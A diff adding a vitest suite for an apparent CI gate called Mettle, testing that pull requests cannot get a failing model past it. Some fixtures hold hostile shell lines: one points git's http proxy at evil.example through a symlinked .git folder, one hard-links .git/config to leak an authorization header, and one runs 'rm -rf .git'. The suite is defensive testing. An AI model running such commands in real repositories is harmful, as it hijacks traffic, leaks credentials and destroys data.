@@ -1,0 +1,190 @@
+import { readFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterEach, describe, expect, it } from 'vitest'
+import { PROJECT } from './project.ts'
+import { type Files, World } from './world.ts'
+
+const CONFIG = PROJECT['mettle.yml'] as string
+const BAD = { 'params.yaml': 'lr: 0.1\nauc: 0.6\n' }
+
+/** What a pull request may try, so that what its own gate refuses goes green all the same. */
+describe('no way around the gate', () => {
+  let world: World
+  afterEach(() => world.close())
+  /** A default branch that has been trained, and is the baseline of what comes. */
+  const start = async (files: Files = {}): Promise<void> => {
+    world = await World.create({ ...PROJECT, ...files })
+    const first = await world.runPush('0'.repeat(40), world.git('rev-parse', 'main'))
+    expect(first.code, first.log).toBe(0)
+  }
+  const push = (branch: string, head: string) =>
+    world.run({
+      event: 'push',
+      ref: `refs/heads/${branch}`,
+      checkout: head,
+      sha: head,
+      payload: {
+        ref: `refs/heads/${branch}`,
+        before: '0'.repeat(40),
+        after: head,
+        repository: { id: 1, full_name: 'acme/models', default_branch: 'main' },
+      },
+    })
+
+  it('by another pull request of the same commit, into a branch without rules', async () => {
+    await start()
+    world.git('checkout', '--quiet', '--orphan', 'pages')
+    world.git('rm', '-rf', '--quiet', '.')
+    world.commit('Pages', { 'index.html': '<p>' })
+    world.push('pages')
+    world.git('checkout', '--quiet', 'main')
+    const made = world.pull(1, 'bad', { ...BAD, 'mettle.yml': CONFIG.replace(/ {4}gate:[\s\S]*/, '    gate: {}\n') })
+    expect((await world.runPull(1, made)).code).toBe(1)
+    const pages = world.git('rev-parse', 'pages')
+    const payload = world.pullPayload(2, { head: made.head, base: pages }) as { pull_request: { base: { ref: string } } }
+    payload.pull_request.base.ref = 'pages'
+    world.github.pulls.set(2, { head: { sha: made.head } })
+    const other = await world.run({ event: 'pull_request', payload, ref: 'refs/pull/2/merge', checkout: made.head, sha: made.head })
+    expect(other.log).not.toContain('[internal]')
+    expect(world.lastStatus(made.head)).not.toBe('success')
+  })
+
+  it('by a push of its branch, from before the rules were tightened', async () => {
+    await start({ 'params.yaml': 'lr: 0.1\nauc: 0.7\n' })
+    const old = world.git('rev-parse', 'main')
+    world.git('checkout', '--quiet', 'main')
+    world.commit('Tighten', { 'mettle.yml': CONFIG.replace('min: 0.5', 'min: 0.75') })
+    world.push('main')
+    const made = world.pull(1, 'old', { 'params.yaml': 'lr: 0.2\nauc: 0.7\n' }, old)
+    world.updatePull(1, made.head)
+    const asked = await world.runPull(1, world.updatePull(1, made.head))
+    expect(asked.code).toBe(1)
+    const pushed = await push('old', made.head)
+    expect(pushed.code).toBe(1)
+    expect(world.lastStatus(made.head)).toBe('failure')
+  })
+
+  it('by a branch that has no ancestor with the default branch', async () => {
+    await start()
+    world.git('checkout', '--quiet', '--orphan', 'alone')
+    const head = world.commit('Alone', {
+      ...BAD,
+      'mettle.yml': CONFIG.replace('min: 0.5', 'min: 0').replace('max-regression: 0.005', 'max-regression: 1'),
+    })
+    world.push('alone')
+    world.git('checkout', '--quiet', 'main')
+    const bad = await push('alone', head)
+    // There is no baseline to hold it against; its rules are the default branch's all the same.
+    expect(bad.summary).toMatch(/Policy: <code>mettle\.yml<\/code> at/)
+    expect(bad.summary).toContain('min')
+  })
+
+  it.each([
+    ['adds tiers', CONFIG, `${CONFIG}    tiers: {a: {}, b: {}}\n`],
+    ['renames a tier', `${CONFIG}    tiers: {quick: {}, full: {}}\n`, `${CONFIG}    tiers: {quick2: {}, full: {}}\n`],
+    ['takes tiers away', `${CONFIG}    tiers: {quick: {}, full: {}}\n`, CONFIG],
+  ])('by a configuration that %s', async (_, before, after) => {
+    await start({ 'mettle.yml': before })
+    const usual = world.pull(1, 'usual', { 'params.yaml': 'lr: 0.1\nauc: 0.81\n' })
+    expect((await world.runPull(1, usual)).code).toBe(0)
+    world.git('checkout', '--quiet', 'main')
+    world.git('merge', '--quiet', '--no-ff', '-m', 'Merge', 'usual')
+    const merged = world.git('rev-parse', 'main')
+    world.push('main')
+    await world.runPush(usual.base, merged)
+    const bad = world.pull(2, 'bad', { ...BAD, 'mettle.yml': after })
+    const run = await world.runPull(2, bad)
+    expect(run.code, run.summary).toBe(1)
+    expect(world.lastStatus(bad.head)).not.toBe('success')
+  })
+
+  it('by numbers that Mettle measures itself', async () => {
+    await start({ 'mettle.yml': CONFIG.replace('auc: {', '"size_bytes{model}": {max: 100}\n      auc: {') })
+    const made = world.pull(1, 'large', {
+      'src/train.sh': `${PROJECT['src/train.sh']}head -c 5000 /dev/zero > model.txt\necho '{"auc": 0.8, "size_bytes{model}": 5}' > metrics.json\n`,
+    })
+    const run = await world.runPull(1, made)
+    expect(run.code, run.summary).toBe(1)
+    expect(run.summary).toContain('5000')
+  })
+
+  it('by an output that lies behind a link, in git’s own folder', async () => {
+    await start()
+    const made = world.pull(1, 'link', {
+      'mettle.yml': CONFIG.replace('model: model.txt', 'model: o/config'),
+      'src/train.sh': `ln -sfn .git o\nprintf '[http]\\n\\tproxy = http://evil.example\\n' >> o/config\n${PROJECT['src/train.sh']}`,
+    })
+    const run = await world.runPull(1, made)
+    expect(run.code).toBe(1)
+    expect(run.log).toContain('output-unsafe')
+    expect(readFileSync(join(run.workspace, '.git/config'), 'utf8')).not.toContain('evil')
+  })
+
+  it('by another name for what git is told, nor by a pipe in its place', async () => {
+    await start()
+    const linked = world.pull(1, 'hard', { 'src/train.sh': `${PROJECT['src/train.sh']}rm model.txt; ln .git/config model.txt\n` })
+    const secret = '\textraheader = AUTHORIZATION: basic c2VjcmV0LW9mLXRoZS1qb2I=\n'
+    const prepare = (workspace: string): void => {
+      const path = join(workspace, '.git/config')
+      writeFileSync(path, `${readFileSync(path, 'utf8')}[http "https://example.com/"]\n${secret}`)
+    }
+    const run = await world.runPull(1, linked, { prepare })
+    expect(readFileSync(join(run.workspace, 'model.txt'), 'utf8')).not.toContain('AUTHORIZATION')
+    expect(readFileSync(join(run.workspace, '.git/config'), 'utf8')).toContain('AUTHORIZATION')
+    const piped = world.pull(2, 'pipe', { 'src/train.sh': `rm .git/config; mkfifo .git/config\n${PROJECT['src/train.sh']}` })
+    const after = await world.runPull(2, piped, { prepare })
+    expect(after.code, after.log).toBe(0)
+    expect(readFileSync(join(after.workspace, '.git/config'), 'utf8')).toContain('AUTHORIZATION')
+    const gone = world.pull(3, 'gone', { 'src/train.sh': `rm -rf .git\n${PROJECT['src/train.sh']}` })
+    const lost = await world.runPull(3, gone, { prepare })
+    expect(lost.code).toBe(1)
+    expect(lost.log).toContain('[git-failed]')
+  }, 30_000)
+
+  it('by a lock of DVC in place of the configuration', async () => {
+    await start()
+    const made = world.pull(1, 'lock', {
+      ...BAD,
+      'mettle.yml': null,
+      'dvc.yaml': 'stages:\n  churn:\n    cmd: sh src/train.sh\n    metrics: [metrics.json]\n',
+      'dvc.lock':
+        "schema: '2.0'\nstages:\n  churn:\n    cmd: sh src/train.sh\n    outs:\n    - path: metrics.json\n      hash: md5\n      md5: 61a2a11d4c0d2d8b5b1f8f7e0b0c8d43\n      size: 14\n",
+      'metrics.json': '{"auc": 0.95}\n',
+    })
+    const run = await world.runPull(1, made)
+    expect(run.outputs['reused']).toBe('[]')
+    expect(run.code).toBe(1)
+    expect(run.summary).not.toContain('trained before with exactly this')
+  })
+
+  it('by a tag, where the training waits to be asked for', async () => {
+    await start({ 'mettle.yml': CONFIG.replace('    train:', "    when: 'label:train'\n    train:") })
+    const made = world.pull(1, 'tagged', { 'params.yaml': 'lr: 0.3\nauc: 0.8\n' })
+    expect((await world.runPull(1, made)).outputs['trained']).toBe('[]')
+    world.push(`${made.head}:refs/tags/v1`)
+    const tagged = await world.run({
+      event: 'push',
+      ref: 'refs/tags/v1',
+      checkout: made.head,
+      sha: made.head,
+      payload: {
+        ref: 'refs/tags/v1',
+        before: '0'.repeat(40),
+        after: made.head,
+        repository: { id: 1, full_name: 'acme/models', default_branch: 'main' },
+      },
+    })
+    expect(tagged.outputs['trained']).toBe('[]')
+    expect(world.lastStatus(made.head)).not.toBe('success')
+  })
+
+  it('by a model of another name on a machine that the base does not give it', async () => {
+    await start({ 'mettle.yml': CONFIG.replace('    train:', "    runs-on: [self-hosted, gpu]\n    when: 'approval:gpu'\n    train:") })
+    const mine =
+      '  mine:\n    code: [src/**]\n    runs-on: [self-hosted, gpu]\n    train: sh src/train.sh\n    outputs: {metrics: mine.json}\n'
+    const made = world.pull(1, 'mine', { 'mettle.yml': world.git('show', 'main:mettle.yml').concat('\n', mine) })
+    const detect = await world.runPull(1, made, { fork: true, entry: 'detect.js' })
+    const batches = JSON.parse(detect.outputs['batches'] ?? '{}').include as { name: string; 'runs-on': unknown; environment: string }[]
+    expect(batches).toMatchObject([{ name: 'mine', 'runs-on': 'ubuntu-latest', environment: 'gpu' }])
+  })
+})
